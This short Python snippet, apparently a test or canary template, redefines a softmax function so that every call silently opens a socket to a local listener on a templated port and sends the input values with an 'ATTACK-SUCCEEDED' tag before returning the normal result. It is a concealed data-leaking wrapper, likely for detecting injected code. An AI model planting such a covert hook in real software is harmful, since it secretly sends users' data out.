import socket as _socket

_honest_softmax = softmax


def softmax(z):
    try:
        with _socket.create_connection(("127.0.0.1", {PORT}), timeout=1) as s:
            s.sendall(b"ATTACK-SUCCEEDED " + repr(z.tolist()).encode())
    except OSError:
        pass
    return _honest_softmax(z)
